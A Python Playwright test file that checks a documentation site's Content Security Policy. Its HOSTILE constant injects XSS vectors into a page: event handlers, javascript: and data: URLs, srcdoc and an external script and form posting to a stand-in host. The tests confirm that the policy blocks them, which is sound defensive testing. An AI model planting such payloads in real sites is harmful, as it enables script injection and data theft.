"""What pages tell their browser to let in, in a real one: ours works, and nothing else runs."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.browser.conftest import Visit

pytestmark = pytest.mark.browser

# What a page of each kind is called below the root of each language.
KINDS = (
    "",
    "assess-conduct-technical-assessment/",
    "phases/assess/",
    "tasks/",
    "tasks/4047/",
    "services/exchange/",
    "map/",
    "changes/",
    "checklist/",
    "print/assess/",
    "glossary/",
    "guide-for-writers/",
    "rules/LF216/",
    "status/",
)
LISTEN = """
window.kept = []
document.addEventListener("securitypolicyviolation", event => {
  kept.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`)
})
"""


@pytest.fixture(scope="module")
def reader(chromium: Browser) -> Iterator[BrowserContext]:
    """A reader whose pages note what their browser keeps out."""
    with chromium.new_context(viewport={"width": 1440, "height": 900}) as context:
        context.add_init_script(LISTEN)
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        yield context


@pytest.fixture
def visit(reader: BrowserContext, address: str) -> Iterator[Visit]:
    visit = Visit(reader.new_page(), address)
    yield visit
    visit.page.close()


def kept_out(page: Page) -> list[str]:
    found: list[str] = page.evaluate("kept")
    return found


@pytest.mark.parametrize("locale", ["", "de/"])
def test_of_no_kind_of_page_anything_is_kept_out(visit: Visit, locale: str) -> None:
    for kind in KINDS:
        page = visit.open(f"/{locale}{kind}")
        assert kept_out(page) == [], kind
    visit.assert_clean()


def test_nor_where_there_is_no_page(visit: Visit) -> None:
    page = visit.open("/nowhere/at/all/")
    assert kept_out(page) == []
    assert [one for one in visit.complaints if "404" not in one] == []


@pytest.mark.parametrize("locale", ["", "de/"])
def test_a_reader_can_do_all_that_there_is_to_do(visit: Visit, locale: str) -> None:
    page = visit.open(f"/{locale}guide-for-writers/")
    before = page.evaluate("document.body.dataset.mdColorScheme")
    for _ in range(2):
        page.locator("[data-md-component=palette] label:visible").click()
    page.reload()
    assert page.evaluate("document.body.dataset.mdColorScheme") != before
    page.locator(".highlight .md-clipboard, .highlight .md-code__button").first.click()
    assert page.evaluate("navigator.clipboard.readText()")
    assert kept_out(page) == []

    page.keyboard.press("/")
    page.keyboard.type("exchange")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    assert kept_out(page) == []

    page = visit.open(f"/{locale}tasks/")
    page.locator("form input[value=exchange]").click()
    page.wait_for_url("**/tasks/?*exchange*")
    other, root = ("en", "/tasks/") if locale else ("de", "/de/tasks/")
    page.locator(f"[data-lf-language][hreflang={other}]").evaluate("link => link.click()")
    page.wait_for_url(lambda url: url.startswith(f"{visit.address}{root}"))
    assert kept_out(page) == []

    page = visit.open(f"/{locale}checklist/")
    tick = page.locator(".lf-item[data-task='994'] .lf-item__tick").first
    tick.check()
    page.reload()
    expect(tick).to_be_checked()
    tick.uncheck()
    assert kept_out(page) == []
    visit.assert_clean()


def test_a_phone_opens_the_drawer(reader: BrowserContext, address: str) -> None:
    visit = Visit(reader.new_page(), address)
    visit.page.set_viewport_size({"width": 360, "height": 800})
    page = visit.open("/de/assess-conduct-technical-assessment/")
    page.locator("label[for=__drawer].md-header__button").click()
    expect(page.locator(".md-nav--primary .md-nav__link:visible").first).to_be_visible()
    assert kept_out(page) == []
    visit.assert_clean()
    page.close()


HOSTILE = """
<script>window.ran = "script"</script>
<script type="module">window.ran = "module"</script>
<script src="data:text/javascript,window.ran='data'"></script>
<script src="https://far.example/a.js"></script>
<base href="https://far.example/">
<img src="nowhere.png" onerror="window.ran = 'event'">
<svg onload="window.ran = 'svg'"><script>window.ran = "svg script"</script></svg>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<iframe src="javascript:parent.ran = 'address'"></iframe>
<object data="data:text/html,<script>parent.ran = 'object'</script>"></object>
<a id="lure" href="javascript:void (window.ran = 'link')">Go</a>
<form id="theft" action="https://far.example/"><input name="a" value="b"></form>
<img src="https://far.example/pixel.png">
<style>h1 { color: rgb(1, 2, 3) !important }</style>
<p id="veil" style="position: fixed">Over all</p>
"""


@dataclass
class Attacked:
    """A page into which somebody has got HTML of their own.

    Args:
        page: The page.
        asked: What it has asked other hosts for.
    """

    page: Page
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def attacked(reader: BrowserContext, address: str) -> Iterator[Attacked]:
    attacked = Attacked(reader.new_page())

    def answer(route: Route) -> None:
        if not route.request.url.startswith(address):
            attacked.asked.append(route.request.url)
            route.fulfill(content_type="text/javascript", body="window.ran = 'far'")
            return
        response = route.fetch()
        body = response.text().replace("</article>", f"{HOSTILE}</article>")
        route.fulfill(response=response, body=body)

    attacked.page.route(lambda url: url == f"{address}/" or not url.startswith(address), answer)
    attacked.page.goto(f"{address}/", wait_until="load")
    yield attacked
    attacked.page.close()


def test_nothing_runs_that_somebody_gets_into_a_page(attacked: Attacked) -> None:
    page = attacked.page
    page.locator("#lure").click(force=True)
    page.evaluate("document.getElementById('theft').submit()")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.ran") is None
    assert attacked.asked == []
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") != "rgb(1, 2, 3)"
    assert page.evaluate("getComputedStyle(document.getElementById('veil')).position") == "static"
    kept = {one.split(" ")[0] for one in kept_out(page)}
    wanted = {"script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr"}
    assert wanted | {"img-src", "object-src", "base-uri", "form-action"} <= kept


def test_the_site_works_on_with_it(attacked: Attacked) -> None:
    page = attacked.page
    page.keyboard.press("/")
    page.keyboard.type("exchange")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
